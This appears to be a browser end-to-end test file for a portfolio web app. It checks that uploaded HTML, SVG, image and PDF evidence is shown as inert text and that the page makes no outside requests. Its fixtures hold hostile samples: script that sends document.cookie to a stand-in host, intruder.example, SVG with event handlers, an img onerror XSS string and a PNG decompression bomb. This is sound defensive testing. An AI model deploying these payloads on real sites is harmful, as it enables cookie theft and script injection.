// Nothing that comes in with evidence runs, and nothing ever leaves. What a browser can show safely opens in place.

import { Assessor } from "./pages/assessor.mjs";
import { Learner } from "./pages/learner.mjs";
import * as files from "./support/files.mjs";
import { expect, test } from "./support/test.mjs";
import { isOfReader } from "./support/traffic.mjs";

const INTRUDER = `<html><body onload="parent.document.documentElement.dataset.intruder='ran'">
<script>top.document.documentElement.dataset.intruder = "ran"; fetch("https://intruder.example/" + document.cookie)</script>
<img src="https://intruder.example/pixel.gif" onerror="top.document.documentElement.dataset.intruder='ran'"></body></html>`;
const PICTURE = `<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.dataset.intruder='ran'">
<script>top.document.documentElement.dataset.intruder = "ran"</script><image href="https://intruder.example/pixel.gif"/></svg>`;
/** A few bytes that say they are a picture of 45,424 by 45,424 pixels. */
const BOMB = Buffer.from("89504e470d0a1a0a0000000d494844520000b1700000b17008020000000000", "hex");

test("what could run is shown as the text that it is", async ({ page, traffic }) => {
  const learner = await Learner.withPortfolio(page);
  await learner.addsFiles(
    await files.text("page.html", INTRUDER),
    await files.text("picture.svg", PICTURE),
    await files.text("photo.jpg", `${INTRUDER} <!-- whatever it is called -->`),
    await files.text("report.pdf", `${INTRUDER} <!-- or that -->`),
    await files.text("bomb.png", BOMB),
  );
  await learner.writesAccount({ title: "<img src=x onerror=alert(1)>", text: INTRUDER });
  const shown = async (reference, words) => {
    const dialog = await learner.opens(reference);
    await expect(dialog.locator("pre, textarea, .prewrap").filter({ hasText: words }).first()).toBeVisible();
    await expect(dialog.locator("iframe, object, embed, img, svg image")).toHaveCount(0);
    await learner.closesDialog();
  };
  await shown("E001", "intruder.example");
  await shown("E002", "<svg xmlns");
  await shown("E003", "intruder.example");
  await shown("E004", "intruder.example");
  const bomb = await learner.opens("E005");
  await expect(bomb).toContainText("This picture is too large to show. It has 2063 million pixels");
  await expect(bomb.locator("img")).toHaveCount(0);
  await learner.closesDialog();
  await expect(learner.evidence("E006")).toContainText("<img src=x onerror=alert(1)>");
  await expect(page.locator("html")).not.toHaveAttribute("data-intruder");
  expect(await traffic.afterLoaded(page)).toEqual([]);
});

test("the assessor sees pictures, PDF, sound and text in place, and nothing is asked of anyone", async ({ page, browser, browserName, traffic, baseURL }) => {
  const context = await browser.newContext();
  const learner = await Learner.withPortfolio(await context.newPage());
  await learner.addsFiles(
    await files.jpeg(),
    await files.pdf(),
    await files.wav(),
    await files.text(),
    await files.large("data.bin", 10_000),
    await files.text("page.html", INTRUDER),
  );
  await learner.notesLink({ title: "Dashboard", url: "https://dashboard.example/" });
  for (const reference of ["E001", "E002", "E003", "E004", "E005", "E006", "E007"]) {
    await learner.mapsByTap(reference, "ISP501.1.1");
  }
  const file = await learner.exports();
  await context.close();

  const assessor = await Assessor.arrives(page);
  await assessor.opensBundle(file);
  await assessor.accepts();
  const inPlace = async (reference, check) => {
    const dialog = await assessor.looksAt(reference, "ISP501.1.1");
    await check(dialog);
    await assessor.closesDialog();
  };
  await inPlace("E001", async (dialog) => {
    const picture = dialog.getByRole("img", { name: "whiteboard.jpg" });
    await expect(picture).toBeVisible();
    await expect.poll(() => picture.evaluate((image) => image.complete && image.naturalWidth > 0)).toBe(true);
  });
  await inPlace("E002", async (dialog) => {
    await expect(dialog.locator("[data-drawn]")).toBeVisible();
    await expect(dialog.getByRole("img", { name: "Page 1 of 2, call-plan.pdf" })).toBeVisible();
  });
  await inPlace("E003", async (dialog) => {
    const sound = dialog.locator("audio");
    await expect(sound).toHaveAttribute("controls");
    await expect.poll(() => sound.evaluate((audio) => audio.duration)).toBeCloseTo(0.5, 1);
  });
  await inPlace("E004", (dialog) => expect(dialog.locator("pre")).toContainText("I asked open questions first."));
  await inPlace("E005", (dialog) => expect(dialog).toContainText("does not open here"));
  await inPlace("E006", (dialog) => expect(dialog.locator("pre")).toContainText("intruder.example"));
  await inPlace("E007", async (dialog) => {
    const link = dialog.getByRole("link", { name: "https://dashboard.example/" });
    await expect(link).toHaveAttribute("rel", /noopener/);
    await expect(link).toHaveAttribute("rel", /noreferrer/);
  });
  await expect(page.locator("html")).not.toHaveAttribute("data-intruder");
  // What draws PDF files is the one part of the page that comes when it is first needed.
  const isOfPage = (url) => url.startsWith("blob:") || isOfReader(url);
  const asked = (await traffic.afterLoaded(page)).filter((url) => !isOfPage(url));
  expect(asked).toEqual([]);
  expect(traffic.requests.filter((url) => !url.startsWith(baseURL))).toEqual([]);
});
